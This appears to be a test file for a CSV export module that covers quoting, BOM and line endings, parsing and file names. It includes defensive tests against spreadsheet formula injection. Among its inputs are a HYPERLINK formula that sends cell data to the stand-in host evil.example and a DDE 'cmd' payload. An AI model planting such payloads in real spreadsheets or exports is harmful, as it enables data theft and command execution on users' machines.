import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, csvFileName, parseCsv, toCsv } from './csv.js';

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['张伟', '张伟'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    [' lead', '" lead"'],
    ['trail ', '"trail "'],
    ['', ''],
    [null, ''],
    [undefined, ''],
    [0, '0'],
    [78.1, '78.1'],
    [-3, '-3'],
    [1e-7, '0.0000001'],
    [Number.NaN, ''],
    [true, 'true'],
  ] as const)('%j → %j', (input, out) => {
    expect(csvField(input)).toBe(out);
  });
});

describe('formula injection (OWASP): text that a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ["=cmd|'/c calc'!A", "'=cmd|'/c calc'!A"],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['-5', "'-5"],
  ] as const)('text %j is written as %j', (input, out) => {
    expect(csvField(input)).toBe(out);
  });

  it('keeps text that only contains those characters as it is', () => {
    expect(csvField('沪A-12345')).toBe('沪A-12345');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('J-1@x')).toBe('J-1@x');
  });

  it('keeps numbers the app writes numeric: a negative change stays a negative number', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(parseCsv(toCsv(['Change', 'Plate'], [[-12.5, '-12.5']]))[1]).toEqual(['-12.5', "'-12.5"]);
  });

  it('neutralises every field of a row, the header too, and reads back as text with its quote', () => {
    const csv = toCsv(['=A1', 'ok'], [["=cmd|'/c calc'!A", '@x']]);
    expect(parseCsv(csv)).toEqual([
      ["'=A1", 'ok'],
      ["'=cmd|'/c calc'!A", "'@x"],
    ]);
    for (const line of csv.slice(1).split('\r\n').filter(Boolean)) {
      for (const field of parseCsv(line)[0]!) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('toCsv', () => {
  it('starts with a BOM, has a header row and ends every line with CRLF', () => {
    const csv = toCsv(['Technician', 'Utilisation (%)'], [['张伟', 78.1], ['Li, Qiang', null]]);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv).toBe(`${CSV_BOM}Technician,Utilisation (%)\r\n张伟,78.1\r\n"Li, Qiang",\r\n`);
  });

  it('a header alone is still a valid file', () => {
    expect(toCsv(['a', 'b'], [])).toBe(`${CSV_BOM}a,b\r\n`);
  });

  it('refuses a row whose width differs from the header (a shifted column would lie in Excel)', () => {
    expect(() => toCsv(['a', 'b'], [['1']])).toThrow(/row 1 has 1 fields, the header 2/);
  });

  it('round-trips through the parser, awkward fields included', () => {
    const rows = [
      ['沪A12345', 'waited 95 min for parts, "still waiting"', '', 'multi\r\nline'],
      [' ', ',', '"', '\n'],
    ];
    const parsed = parseCsv(toCsv(['plate', 'detail', 'empty', 'note'], rows));
    expect(parsed).toEqual([['plate', 'detail', 'empty', 'note'], ...rows]);
  });

  it('is UTF-8 with the BOM as its first three bytes', () => {
    const bytes = new TextEncoder().encode(toCsv(['名称'], [['王芳']]));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(3))).toBe('名称\r\n王芳\r\n');
  });
});

describe('parseCsv', () => {
  it('reads LF-only files and a last line without an ending', () => {
    expect(parseCsv('a,b\n1,2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('refuses broken quoting instead of guessing', () => {
    expect(() => parseCsv('"open')).toThrow(/unterminated/);
    expect(() => parseCsv('a"b')).toThrow(/quote inside/);
    expect(() => parseCsv('"a"b')).toThrow(/after a closing quote/);
  });
});

describe('csvFileName', () => {
  it('keeps only safe characters', () => {
    expect(csvFileName('pitwall', 'sh-test', '2026-11-21', 'technicians')).toBe('pitwall_sh-test_2026-11-21_technicians.csv');
    expect(csvFileName('a/b c', '上海', 'x')).toBe('a-b-c_x.csv');
  });
});
